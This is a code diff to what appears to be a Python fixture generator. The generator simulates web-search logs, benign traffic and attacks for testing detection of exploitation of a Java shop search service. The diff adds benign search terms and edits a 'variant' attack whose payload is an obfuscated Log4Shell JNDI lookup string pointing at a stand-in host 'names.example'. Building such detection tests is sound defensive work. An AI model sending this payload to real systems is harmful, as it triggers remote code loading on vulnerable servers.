@@ -20,6 +20,7 @@ ATTACKER, LOOKUPS = "198.51.100.9", "198.51.100.66"
 DATABASE = "10.0.4.5"
 JAVA = "/opt/java/openjdk/bin/java"
 WORDS = ("running shoes", "blue coat", "kids' hat", "t-shirt (xl)", "scarf", "50% off")
+OTHERS = ("size: 42", "black/white", "coat; red", "hats & scarves", "a|b", "running shoes")
 SEARCH = """\
 package com.shop;
 
@@ -124,7 +125,7 @@ def prepare(world):
     feeds.pull(root, "kev", [str(folder / "kev.json")], now=world.clock.now())
 
 
-def ordinary(folder, start=AT - HOUR, *, container=True):
+def ordinary(folder, start=AT - HOUR, *, container=True, searched_for=WORDS):
     """Shoppers search; the service asks its database."""
     raw = Raw(folder, serial=start % 1_000_000)
     if container:
@@ -132,10 +133,10 @@ def ordinary(folder, start=AT - HOUR, *, container=True):
         raw.starts(start - MINUTE + 100, 700, 699, JAVA, "java", "-jar", "/app/search.jar")
     for number in range(50):
         at, client = start + number * MINUTE, f"203.0.113.{number % 20 + 1}"
-        raw.asks(at, client, "/search?q=" + quote(WORDS[number % len(WORDS)], safe=""))
+        raw.asks(at, client, "/search?q=" + quote(searched_for[number % len(searched_for)], safe=""))
         raw.connects(at + 20, 700, 699, JAVA, DATABASE, 5432)
         if number % 10 == 0:
-            log(raw, at + 30, f"searched for {WORDS[number % len(WORDS)]}")
+            log(raw, at + 30, f"searched for {searched_for[number % len(searched_for)]}")
     return raw.logs
 
 
@@ -154,17 +155,17 @@ def attack(folder):
 
 
 def variant(folder):
-    """Another attacker, with the lookup written otherwise, over another protocol, from another address."""
+    """Another attacker, with the lookup written otherwise, over another protocol, to a name."""
     raw = Raw(folder, serial=LATER % 1_000_000)
-    text = "${${lower:j}ndi:${lower:r}mi://192.0.2.200:1099/x}"
+    text = "${${lower:j}ndi:${lower:r}mi://names.example:1099/x}"
     searched(raw, LATER, "192.0.2.88", text, ("192.0.2.200", 1099))
     raw.starts(LATER + 900, 950, 700, "/usr/bin/python3.11", "python3", "-c", "print(1)")
     return raw.logs
 
 
 def benign_hour(folder):
-    """The same hour a day later."""
-    return ordinary(folder, LATER - HOUR, container=False)
+    """The same hour a day later; others search for other things."""
+    return ordinary(folder, LATER - HOUR, container=False, searched_for=OTHERS)
 
 
 def more(story):
